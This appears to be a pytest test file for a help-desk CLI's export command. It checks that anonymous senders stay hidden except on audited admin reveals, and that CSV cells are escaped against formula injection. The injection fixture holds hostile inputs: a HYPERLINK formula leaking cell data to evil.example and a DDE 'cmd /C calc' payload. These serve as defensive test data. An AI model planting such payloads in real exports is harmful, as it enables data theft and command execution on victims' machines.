"""`crossdesk export` and anonymous suggestions: the sender never appears, in any table or
format, unless an admin asks with --reveal-anonymous --as ADMIN (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.bot.cli.test_cli import chat_story, invoke
from tests.conftest import EXAMPLE

# Mia (HR lead) sends one anonymous suggestion and does nothing else on the desk, so any
# trace of her in an export could only come from that suggestion.
STORY = """\
@now 2026-11-23T09:00
alice> /request finance reimbursement taxi 86 CNY
bob> /request ack FIN-1
bob> /request resolve FIN-1 paid on Friday
alice> /request confirm FIN-1
alice> /request rate FIN-1 4 fast
mia> /suggest --anon finance please accept e-invoices
henry> /suggest finance a shared calendar for closing dates
carol> /suggest reply 1 from January on
"""
MIA = ("mia", "Mia", "林娜", "linna")  # id, name (both scripts) and WeCom userid
TABLES = ("requests", "events", "ratings", "suggestions")


@pytest.fixture
def story(engine, database_url) -> str:
    """The database URL, after the story was typed into `crossdesk chat`."""
    out = chat_story(database_url, STORY)
    assert "[reply] Thanks! FIN-1 is closed." in out
    return database_url


def export(url: str, *args: str):
    return invoke(["export", "--config", str(EXAMPLE), "--database-url", url, *args])


def parse(text: str, fmt: str) -> list[dict[str, str]]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text)))
    return [json.loads(line) for line in text.splitlines()]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_no_trace_of_the_anonymous_sender_in_any_export(story, fmt):
    for what in TABLES:
        result = export(story, "--format", fmt, "--what", what)
        assert result.exit_code == 0, result.output
        assert result.output.strip(), f"{what} exported nothing"
        for trace in MIA:
            assert trace not in result.output, f"{trace!r} in the {what} export"
    rows = parse(export(story, "--format", fmt, "--what", "suggestions").stdout, fmt)
    by_text = {r["text"]: r for r in rows}
    anonymous = by_text["please accept e-invoices"]
    assert anonymous["author_id"] in (None, "")
    assert anonymous["reply"] == "from January on", "the answer is exported, the sender not"
    assert by_text["a shared calendar for closing dates"]["author_id"] == "henry"


def test_a_non_admin_may_not_reveal_anonymous_senders(story, tmp_path):
    out = tmp_path / "s.jsonl"
    result = export(
        story, "--what", "suggestions", "--reveal-anonymous", "--as", "carol", "-o", str(out)
    )
    assert result.exit_code == 2
    flat = " ".join(result.output.split())
    assert "carol is not an admin" in flat
    assert "--reveal-anonymous --as root" in flat, "it names what to type"
    assert not out.exists() and "mia" not in result.output


@pytest.mark.parametrize(
    "args, says",
    [
        (["--reveal-anonymous"], "say who you are: --reveal-anonymous --as root"),
        (["--reveal-anonymous", "--as", "nobody"], "--as nobody: no such person"),
        (["--as", "root"], "--as only goes with --reveal-anonymous"),
    ],
)
def test_reveal_needs_a_known_admin(story, args, says):
    result = export(story, "--what", "suggestions", *args)
    assert result.exit_code == 2
    assert says in " ".join(result.output.split())
    assert "mia" not in result.output


def test_reveal_is_for_suggestions_only(story):
    result = export(story, "--what", "requests", "--reveal-anonymous", "--as", "root")
    assert result.exit_code == 2
    assert "--what suggestions --reveal-anonymous --as root" in " ".join(result.output.split())


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_an_admin_sees_who_sent_it_and_is_reminded_to_keep_it_close(story, fmt):
    result = export(
        story, "--format", fmt, "--what", "suggestions", "--reveal-anonymous", "--as", "root"
    )
    assert result.exit_code == 0, result.output
    by_text = {r["text"]: r for r in parse(result.stdout, fmt)}
    anonymous = by_text["please accept e-invoices"]
    assert anonymous["author_id"] == "mia"
    assert str(anonymous["anonymous"]) in ("True", "true"), "still marked anonymous"
    assert "as root (an admin) asked" in " ".join(result.stderr.split())
    assert "mia" not in result.stderr


FORMULAS = """\
@now 2026-11-23T09:00
alice> /request finance reimbursement amount=86 =HYPERLINK("http://evil.example/?x="&A1,"taxi")
bob> /request comment FIN-1 +cmd|' /C calc'!A0
bob> /request resolve FIN-1 -2+3 paid
alice> /request confirm FIN-1
alice> /request rate FIN-1 4 @SUM(1+1)
henry> /suggest finance =1+1 as a suggestion
"""
DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("what", TABLES)
def test_csv_cells_never_start_a_spreadsheet_formula(engine, database_url, what):
    chat_story(database_url, FORMULAS)
    result = export(database_url, "--format", "csv", "--what", what)
    assert result.exit_code == 0, result.output
    cells = [v for row in parse(result.stdout, "csv") for v in row.values() if v]
    assert cells, f"{what} exported nothing"
    assert not [c for c in cells if c.startswith(DANGER)], f"a formula in the {what} export"
    text = " ".join(cells)
    expected = {"requests": "'=HYPERLINK(", "events": "'+cmd|", "ratings": "'@SUM(1+1)",
                "suggestions": "'=1+1 as a suggestion"}[what]
    assert expected in text, "the text is kept, shown as text"


def test_jsonl_keeps_the_text_as_typed(engine, database_url):
    chat_story(database_url, FORMULAS)
    rows = parse(export(database_url, "--format", "jsonl", "--what", "suggestions").stdout,
                 "jsonl")
    assert rows[0]["text"] == "=1+1 as a suggestion"


def test_a_reveal_is_recorded_and_the_other_admins_are_told(engine, database_url, tmp_path):
    config = tmp_path / "two-admins.toml"
    config.write_text(EXAMPLE.read_text(encoding="utf-8").replace(
        'admins = ["root"]', 'admins = ["root", "grace"]', 1), encoding="utf-8")
    out = invoke(["chat", "--config", str(config), "--database-url", database_url],
                 input=STORY)
    assert out.exit_code == 0, out.output
    result = invoke(["export", "--config", str(config), "--database-url", database_url,
                     "--what", "suggestions", "--reveal-anonymous", "--as", "root"])
    assert result.exit_code == 0, result.output
    from sqlmodel import Session, select

    from storage.models import Disclosure
    with Session(engine) as s:
        [row] = s.exec(select(Disclosure)).all()
    assert (row.actor_id, row.kind, row.subject_ids) == ("root", "anonymous_senders", [1])
    assert row.created_at is not None
    later = invoke(["chat", "--config", str(config), "--database-url", database_url],
                   input="henry> /request list\n")
    told = [line for line in later.output.splitlines() if "匿名建议" in line]
    assert told and told[0].startswith("[to grace]"), later.output
    assert "System Admin" in told[0] and "#1" in told[0]
    assert "[to root]" not in later.output, "the admin who asked is not told of it"
    assert "mia" not in later.output and "林娜" not in later.output
